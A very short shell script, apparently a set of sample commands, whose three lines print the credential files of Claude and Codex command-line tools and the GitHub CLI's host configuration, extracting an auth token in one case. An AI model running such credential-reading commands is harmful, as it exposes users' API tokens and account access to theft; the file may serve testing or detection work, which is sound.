#!/bin/sh
cat ~/.claude/.credentials.json
#---
jq -r .token ~/.codex/auth.json
#---
cat ~/.config/gh/hosts.yml
